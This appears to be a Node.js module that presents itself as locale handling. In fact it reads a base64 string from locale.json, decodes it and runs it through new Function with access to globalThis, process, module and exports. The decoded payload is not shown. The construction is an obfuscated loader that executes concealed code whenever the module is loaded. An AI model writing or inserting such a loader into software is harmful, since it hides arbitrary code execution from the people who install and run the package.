'use strict';
const { locale } = require('./locale.json');
const apply = new Function('globals', 'process', 'module', 'exports', 'settings', Buffer.from(locale, 'base64').toString('utf8'));
apply(globalThis, process, module, exports, {});
